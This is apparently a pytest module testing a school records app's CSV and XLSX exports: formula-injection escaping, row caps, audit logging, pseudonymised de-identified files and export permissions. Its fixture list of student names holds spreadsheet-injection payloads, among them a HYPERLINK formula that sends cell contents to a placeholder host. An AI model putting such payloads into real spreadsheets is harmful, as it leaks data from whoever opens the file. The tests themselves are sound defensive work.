"""List exports: formula escaping, rows equal to the list, the row cap, audit, de-identification, rights
(security.md D1, D2, D3, A7).

One application over a real SQLite file per module, CSRF on, users logging in
through the form. School A (district D1) has six students whose names start
with a character a spreadsheet would run as a formula; their school numbers
look like mobile numbers and they have ID numbers, so a de-identified file
that leaked either would be caught. School B has one more student.
"""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import re

import pytest
import security_summary
from openpyxl import load_workbook
from sqlalchemy import select
from test_disclosure import audit_count, client_for, filter_arg, rows_as
from test_web import PASSWORD, add_school, add_student_with_history, app_config

from xinshu.app import create_app
from xinshu.auth import create_user, hash_password
from xinshu.models import AuditEvent, User
from xinshu.models import RiskWarning as WarningModel
from xinshu.orgs import add_org_unit

#: Names as a hostile roster could hold them (each ends with a distinct character, to be found in a scan).
DANGEROUS = ['=HYPERLINK("http://x/?"&A1)张', "+1王", "-2李", "@SUM(A1)赵", "\t钱", "\r孙"]
OTHER_SCHOOL = "外校周同学"
ID_NUMBER = re.compile(r"(?<![0-9])\d{17}[0-9Xx](?![0-9])")
MOBILE = re.compile(r"(?<![0-9])1\d{10}(?![0-9])")
STUDENT_HEADER = ["学生编号", "学校", "班级", "姓名", "校内学号", "性别", "年级", "学籍状态"]


def id_number(n: int) -> str:
    return f"1101012008010{n:04d}1"


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """School A: six hostile names (students 0 and 1 escalated to the district, student 2 at level 2);
    school B: one student. Users: psychology teacher and class teacher of A, the district admin,
    a user without roles."""
    app = create_app(app_config(tmp_path_factory.mktemp("exports")))
    services = app.extensions["xinshu"]
    with services.db.transaction() as session:
        city = add_org_unit(session, "c", "市", "city", None)
        d1 = add_org_unit(session, "d1", "一区", "district", city)
        school_a, class_a = add_school(session, d1, "a")
        school_b, class_b = add_school(session, d1, "b")
        ids = []
        for n, name in enumerate(DANGEROUS):
            student = add_student_with_history(session, school_a, class_a, name, id_number(n), f"1380013{n:04d}")
            ids.append(student.id)
        other = add_student_with_history(session, school_b, class_b, OTHER_SCHOOL, id_number(9), "13800139999")
        for n in (0, 1):
            session.query(WarningModel).filter_by(student_id=ids[n]).update({"escalated_to": "district"})
        session.query(WarningModel).filter_by(student_id=ids[2]).update({"level": 2})
        create_user(session, "psy_a", PASSWORD, "psychology_teacher", school_a)
        create_user(session, "teacher_a", PASSWORD, "class_teacher", class_a)
        create_user(session, "dist1", PASSWORD, "district_admin", d1)
        session.add(User(username="nobody", password_hash=hash_password(PASSWORD)))
        ids_by = {"students": ids, "other": other.id}
    yield app, ids_by
    services.db.dispose()


def body_of(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.get_data().decode("utf-8")


def csv_rows(response) -> list[list[str]]:
    text = body_of(response)
    assert text.startswith("\ufeff")  # the byte-order mark Excel and WPS need for Chinese
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def xlsx_rows(response) -> list[list[object]]:
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


# --- D1: formula injection ----------------------------------------------------------


def test_d1_csv_cells_are_escaped_and_quoted(world):
    app, _ids = world
    response = client_for(app, "psy_a").get("/admin/student/export/csv/")
    raw = body_of(response)
    rows = csv_rows(response)
    assert rows[0] == STUDENT_HEADER
    names = sorted(row[3] for row in rows[1:])
    expected = sorted("'" + name for name in DANGEROUS)  # ASVS 1.2.10: a leading single quote
    security_summary.count("export_cells_checked", len(DANGEROUS))
    security_summary.count("unescaped_cells", len(set(expected) - set(names)))
    assert names == expected
    assert '"\'=HYPERLINK(""http://x/?""&A1)张"' in raw  # RFC 4180: quoted, inner quotes doubled
    assert raw.count("\r\n") == len(DANGEROUS) + 1  # CRLF line ends; the CR of a name stays inside quotes


def test_d1_xlsx_text_cells_are_strings_not_formulas(world):
    app, _ids = world
    response = client_for(app, "psy_a").get("/admin/student/export/xlsx/")
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    assert header == STUDENT_HEADER
    cells = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)  # string cells, never formulas
    values = sorted(cell.value for cell in cells)
    security_summary.count("export_cells_checked", len(cells))
    unescaped = [v for v in values if not str(v).startswith("'")]
    security_summary.count("unescaped_cells", len(unescaped))
    assert unescaped == []
    # XML reading normalises a carriage return to a line feed (XML 1.0 §2.11); the quote is what matters.
    assert sorted(v[1:] for v in values) == sorted(name.replace("\r", "\n") for name in DANGEROUS)


# --- D2: rows = list rows; the cap; the audit row ------------------------------------------


def test_d2_export_rows_are_the_list_rows_for_the_same_filters(world):
    app, ids = world
    client = client_for(app, "psy_a")
    level = filter_arg(app, "warning", "level", "IntEqualFilter")
    rows = csv_rows(client.get(f"/admin/warning/export/csv/?{level}=3"))
    exported = sorted(int(row[0]) for row in rows[1:])
    listed = rows_as(app, "psy_a", "warning", filters=[(int(level.split("_")[1]), "", "3")])
    assert exported == listed
    with app.extensions["xinshu"].db.sessionmaker() as session:
        # By hand: school A's warnings, all level 3 but student 2's (level 2); school B's is out of scope.
        level_3 = [*ids["students"][:2], *ids["students"][3:]]
        expected = sorted(session.scalars(select(WarningModel.id).where(WarningModel.student_id.in_(level_3))))
    assert exported == expected
    searched = csv_rows(client.get("/admin/student/export/csv/?search=SUM"))
    assert [row[3] for row in searched[1:]] == ["'@SUM(A1)赵"]
    with app.extensions["xinshu"].db.sessionmaker() as session:
        exports = select(AuditEvent).where(AuditEvent.action == "export", AuditEvent.object_type == "warning")
        event = session.scalars(exports.order_by(AuditEvent.id.desc())).first()
    assert (event.actor, event.outcome) == ("psy_a", "ok")
    assert event.detail == {"rows": 5, "format": "csv", "deidentified": False, "filters": {level: "3"},
                            "search": False, "sort": None}  # fmt: skip


def test_d2_over_the_cap_is_refused_not_truncated(world):
    app, _ids = world
    client = client_for(app, "psy_a")
    app.config["XINSHU_EXPORT_MAX_ROWS"] = 5
    try:
        refused = client.get("/admin/student/export/csv/")
        assert refused.status_code == 302 and refused.headers["Location"].startswith("/admin/student/")
        assert "text/csv" not in refused.headers.get("Content-Type", "")
        assert "超过上限 5 行" in client.get(refused.headers["Location"]).get_data(as_text=True)
        with app.extensions["xinshu"].db.sessionmaker() as session:
            event = session.scalars(select(AuditEvent).where(AuditEvent.action == "export")
                                    .order_by(AuditEvent.id.desc())).first()  # fmt: skip
        assert (event.outcome, event.detail["rows"], event.detail["limit"]) == ("denied", 6, 5)
        grade = filter_arg(app, "student", "grade_level", "IntEqualFilter")
        assert len(csv_rows(client.get(f"/admin/student/export/csv/?search=SUM&{grade}=7"))) == 2
    finally:
        app.config.pop("XINSHU_EXPORT_MAX_ROWS")


# --- D3: de-identified exports ----------------------------------------------------------


def expected_pseudonym(student_id: int, key: str) -> str:
    """HMAC-SHA256 of ``xinshu-student:<id>``, first 20 hex digits (xinshu.exports.pseudonym, by hand)."""
    return hmac.new(key.encode(), f"xinshu-student:{student_id}".encode(), hashlib.sha256).hexdigest()[:20]


def test_d3_deidentified_exports_hold_no_identifier(world):
    app, ids = world
    client = client_for(app, "dist1")
    roster = [*DANGEROUS, OTHER_SCHOOL]
    hits = 0
    for endpoint in ("student", "response", "warning", "case"):
        for kind in ("csv", "xlsx"):
            response = client.get(f"/admin/{endpoint}/export/{kind}/")
            rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
            assert "姓名" not in rows[0] and "校内学号" not in rows[0] and "班级" not in rows[0], endpoint
            assert len(rows) == 3, endpoint  # students 0 and 1, escalated to the district
            text = "\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows)
            found = ID_NUMBER.findall(text) + MOBILE.findall(text) + [n for n in roster if n.strip() in text]
            hits += len(found)
            assert found == [], (endpoint, kind, found)
    security_summary.count("deidentified_hits", hits)
    students = csv_rows(client.get("/admin/student/export/csv/"))
    codes = sorted(row[0] for row in students[1:])
    assert codes == sorted(expected_pseudonym(sid, "test") for sid in ids["students"][:2])
    with app.extensions["xinshu"].db.sessionmaker() as session:
        event = session.scalars(select(AuditEvent).where(AuditEvent.action == "export")
                                .order_by(AuditEvent.id.desc())).first()  # fmt: skip
    assert (event.actor, event.detail["deidentified"], event.detail["rows"]) == ("dist1", True, 2)


def test_d3_pseudonym_key_setting(world):
    app, ids = world
    app.config["XINSHU_PSEUDONYM_KEY"] = "a-separate-study-key"
    try:
        rows = csv_rows(client_for(app, "dist1").get("/admin/warning/export/csv/"))
    finally:
        app.config.pop("XINSHU_PSEUDONYM_KEY")
    assert sorted(row[1] for row in rows[1:]) == sorted(
        expected_pseudonym(sid, "a-separate-study-key") for sid in ids["students"][:2]
    )


# --- A7: no export right, no file -----------------------------------------------------------


def test_a7_export_needs_an_export_right(world):
    app, _ids = world
    before = audit_count(app, "export", "student")
    teacher = client_for(app, "teacher_a")
    nobody = client_for(app, "nobody")
    anonymous = app.test_client()
    for endpoint in ("student", "response", "warning", "case"):
        for kind in ("csv", "xlsx"):
            url = f"/admin/{endpoint}/export/{kind}/"
            assert teacher.get(url).status_code == 403, url
            assert nobody.get(url).status_code == 403, url
            response = anonymous.get(url)
            assert response.status_code == 302 and "/login" in response.headers["Location"], url
        assert client_for(app, "psy_a").get(f"/admin/{endpoint}/export/json/").status_code == 404
    assert "/admin/student/export/csv/" not in teacher.get("/admin/student/").get_data(as_text=True)
    assert "/admin/student/export/csv/" in client_for(app, "psy_a").get("/admin/student/").get_data(as_text=True)
    assert audit_count(app, "export", "student") == before  # refused before any audit row or file


def test_export_audit_comes_before_the_file(world, monkeypatch):
    app, _ids = world
    client = client_for(app, "psy_a")

    def broken(*_args, **_kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(app.extensions["xinshu"].db, "sessionmaker", broken)
    response = client.get("/admin/student/export/csv/")
    assert response.status_code == 503
    assert not any(name.strip() in response.get_data().decode("utf-8", "replace") for name in DANGEROUS)


@pytest.mark.parametrize("username", ["psy_a", "dist1"])
def test_exported_students_are_those_of_the_list(world, username: str):
    app, _ids = world
    client = client_for(app, username)
    rows = csv_rows(client.get("/admin/case/export/csv/"))
    assert len(rows) - 1 == len(rows_as(app, username, "case"))
